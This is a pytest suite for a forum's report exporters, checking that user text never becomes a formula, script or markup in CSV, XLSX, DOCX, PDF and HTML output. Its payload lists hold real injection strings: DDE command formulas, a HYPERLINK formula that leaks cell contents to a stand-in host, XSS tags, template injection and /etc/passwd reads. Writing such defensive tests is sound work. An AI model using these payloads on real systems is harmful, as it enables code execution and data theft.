"""Every writer of reports, run against the same promises."""

import csv
import io
import json
import re
import zipfile
from datetime import datetime
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st

from forum.reports.document import Column, Definition, Kind, Report, Sheet
from forum.reports.formats import FORMATS
from forum.reports.printed import print_value
from forum.reports.writers import csv as csv_writer
from forum.reports.writers import xlsx as xlsx_writer
from forum.reports.writers.pdf import with_glyphs

FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    '"=1+1',
    "'=1+1",
    "\"' =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66SUM(1)",
    "\u22121",
    "-",
    "Ana;=1+1",
    "Ana\t=1+1",
    "Ana\n=1+1",
    'Ana";"=1+1',
    "Ana|@SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "http://example.org",
    "mailto:ana@example.org",
    "internal:Sheet1!A1",
    "{=1+1}",
    "_x003D_1+1",
    "42",
    "1e5",
    "007",
    "TRUE",
    "2006-05-15",
    "#REF!",
    "<b>Ana</b>",
    "Ana & Eva",
    "é中文عربى🙂",
]


def report_of(*texts: str, title: str = "People") -> Report:
    return Report(
        title="Sharing knowledge",
        subtitle="15 May to 12 June 2006",
        language="en",
        made_at=datetime(2006, 6, 12, 14, 2, tzinfo=ZoneInfo("America/Toronto")),
        sheets=[
            Sheet("people", title, [Column("Name"), Column("Pages", Kind.NUMBER)], [(text, 7) for text in texts]),
            Sheet("countries", "Countries", [Column("Country")], [("Canada",)], notes=["Cells under 5 are hidden."]),
        ],
        definitions=[Definition("Visit", "Pages less than half an hour apart.")],
        definitions_title="Definitions",
    )


def xlsx_rows(report: Report) -> dict[str, list[tuple]]:
    page = io.BytesIO()
    xlsx_writer.write_report(report, page)
    book = openpyxl.load_workbook(page)
    return {sheet.title: list(sheet.iter_rows()) for sheet in book}


def csv_rows(report: Report, delimiter: str = ",") -> dict[str, list[list[str]]]:
    page = io.BytesIO()
    csv_writer.write_report(report, page)
    with zipfile.ZipFile(page) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""), delimiter=delimiter))
            for name in archive.namelist()
        }


BEGINNINGS = {"csv": b"PK", "xlsx": b"PK", "docx": b"PK", "pdf": b"%PDF-", "html": b"<!doctype html>", "json": b"{"}


@pytest.mark.parametrize("form", FORMATS)
def test_a_file_is_what_it_says_and_the_same_report_twice_is_the_same_file(form):
    one, other = io.BytesIO(), io.BytesIO()
    FORMATS[form].write(report_of("Ana"), one)
    FORMATS[form].write(report_of("Ana"), other)
    assert one.getvalue().startswith(BEGINNINGS[form])
    assert one.getvalue() == other.getvalue()


MARKUP = [
    *PAYLOADS,
    "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>",
    '#read("/etc/passwd")',
    "#set text(red); $x^2$ *bold* _it_ `raw` @ref <label> // note",
    "= heading",
    "\\input{/etc/passwd} $\\alpha$",
    "[a](javascript:alert(1)) ![](http://example.org/x.png)",
    "{{ 7*7 }} {% include 'x' %} ${7*7}",
    "%PDF-1.7 \x00 \uffff \U0001f600",
]


@pytest.mark.parametrize("payload", MARKUP)
def test_a_text_is_words_in_what_people_read(payload):
    """The same words in each: nothing of them is run, opened or left out."""
    report = report_of(payload, title=payload)
    page = io.BytesIO()
    FORMATS["html"].write(report, page)
    seen = Cells()
    seen.feed(page.getvalue().decode())
    assert seen.cells[0] == drawn(payload)
    assert seen.tags.isdisjoint({"script", "img", "b", "a"})
    FORMATS["docx"].write(report, page := io.BytesIO())
    cells = [cell.text for cell in Document(page).tables[0].columns[0].cells]
    assert "".join(cells[1].split()) == "".join(drawn(payload).split())
    FORMATS["pdf"].write(report, page := io.BytesIO())
    assert page.getvalue().startswith(b"%PDF-")


def drawn(words):
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufeff\uffff]", "", words).replace("\r", "\n")


class Cells(HTMLParser):
    """The first cell of each row, and all tags met."""

    def __init__(self):
        super().__init__()
        self.cells, self.tags, self.inside = [], set(), False

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag == "bdi":
            self.cells.append("")
            self.inside = True

    def handle_endtag(self, tag):
        self.inside &= tag != "bdi"

    def handle_data(self, data):
        if self.inside:
            self.cells[-1] += data


def test_what_no_font_has_stands_as_a_box_and_stops_nothing():
    assert with_glyphs({"a": ["Zoé \u4e2d ᐃ སྐད سلام"]}) == {"a": ["Zoé \u4e2d □ □□□ سلام"]}


def test_a_number_and_a_moment_are_written_as_the_language_writes_them():
    moment = datetime(2006, 5, 15, 9, 0, tzinfo=ZoneInfo("America/Toronto"))
    assert print_value(12765, "fr") == "12\u202f765"
    assert print_value(12765, "es") == "12.765"
    assert print_value(moment, "fr") == "15/05/2006 09:00"
    assert print_value(None, "fr") == ""


def test_a_report_in_arabic_reads_from_the_right_in_each_file():
    report = report_of("سلام")
    report = Report(**{name: getattr(report, name) for name in report.__slots__} | {"language": "ar"})
    FORMATS["html"].write(report, page := io.BytesIO())
    assert b'<html lang="ar" dir="rtl">' in page.getvalue()
    FORMATS["docx"].write(report, page := io.BytesIO())
    assert "w:bidi" in zipfile.ZipFile(page).read("word/document.xml").decode()


def test_programs_get_values_as_they_are():
    FORMATS["json"].write(report_of("=1+1"), page := io.BytesIO())
    told = json.loads(page.getvalue())
    assert told["sheets"][0]["rows"] == [["=1+1", 7]]
    assert told["made_at"] == "2006-06-12T14:02:00-04:00"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_is_never_a_formula_in_a_workbook(payload):
    cell = xlsx_rows(report_of(payload))["People"][1][0]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.hyperlink is None
    assert cell.value.replace("\r", "") == payload.replace("\r", "").replace("\x00", "").replace("\x0b", "") or (
        "_x00" in cell.value
    )


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_is_never_a_formula_in_a_table_whatever_separator_the_reader_expects(payload, delimiter):
    for row in csv_rows(report_of(payload), delimiter)["1-people.csv"]:
        for cell in row:
            assert not cell.lstrip(" \"'\u00a0\u3000\u200b\ufeff\n").startswith(tuple(FORMULA_STARTS)) or (
                cell.startswith("'")
            )


@given(text=st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_no_text_at_all_begins_as_a_formula(text):
    [_head, [cell, _pages]] = csv_rows(report_of(text))["1-people.csv"]
    assert not cell.startswith(tuple(FORMULA_STARTS))
    assert cell.replace("'", "") == text.replace("'", "")


def test_a_harmless_text_is_not_touched():
    for text in ("Ana María", "a=b", "ana@example.org", "São Paulo - Brasil", "été; hiver"):
        assert csv_rows(report_of(text))["1-people.csv"][1][0] == text


def test_a_table_opens_as_utf_8_in_a_spreadsheet():
    table = csv_writer.sheet_table(report_of("Zoé").sheets[0])
    assert table.startswith(b"\xef\xbb\xbf")
    assert "Zoé" in table.decode("utf-8-sig")


def test_each_sheet_is_a_table_of_its_own_and_definitions_come_with_them():
    assert csv_rows(report_of("Ana")) == {
        "1-people.csv": [["Name", "Pages"], ["Ana", "7"]],
        "2-countries.csv": [["Country"], ["Canada"]],
        "definitions.csv": [
            ["Sharing knowledge"],
            ["15 May to 12 June 2006"],
            [],
            ["Visit", "Pages less than half an hour apart."],
        ],
    }


def test_a_workbook_has_a_tab_a_sheet_with_heads_numbers_and_notes():
    tabs = xlsx_rows(report_of("Ana"))
    assert list(tabs) == ["People", "Countries", "Definitions"]
    assert [[cell.value for cell in row] for row in tabs["People"]] == [["Name", "Pages"], ["Ana", 7]]
    assert tabs["People"][1][1].data_type == "n"
    assert tabs["Countries"][3][0].value == "Cells under 5 are hidden."


def test_a_moment_is_a_date_in_the_zone_it_comes_in():
    moment = datetime(2006, 5, 15, 9, 0, tzinfo=ZoneInfo("America/Toronto"))
    report = report_of()
    sheet = Sheet("rounds", "Rounds", [Column("Opens", Kind.MOMENT)], [(moment,), (None,)])
    report = Report(**{name: getattr(report, name) for name in report.__slots__} | {"sheets": [sheet]})
    assert xlsx_rows(report)["Rounds"][1][0].value == datetime(2006, 5, 15, 9, 0)  # noqa: DTZ001
    assert csv_rows(report)["1-rounds.csv"][1:] == [["2006-05-15 09:00-04:00"], [""]]


@pytest.mark.parametrize("title", ["A" * 40, "a/b:c*?[d]\\e", "'quoted'", "", "History", "المشاركات", "🙂" * 20])
def test_any_title_gives_a_tab_that_opens(title):
    tabs = xlsx_rows(report_of("Ana", title=title))
    assert len(tabs) == 3
    assert all(0 < len(tab) <= 31 for tab in tabs)


def test_two_sheets_of_one_title_have_two_tabs():
    assert len(xlsx_rows(report_of("Ana", title="countries"))) == 3


def test_a_text_longer_than_a_cell_holds_is_cut_and_not_refused():
    assert len(xlsx_rows(report_of("x" * 40_000))["People"][1][0].value) == 32_767


def test_half_a_character_does_not_break_a_file():
    assert xlsx_rows(report_of("a\ud800b"))
    assert csv_rows(report_of("a\ud800b"))
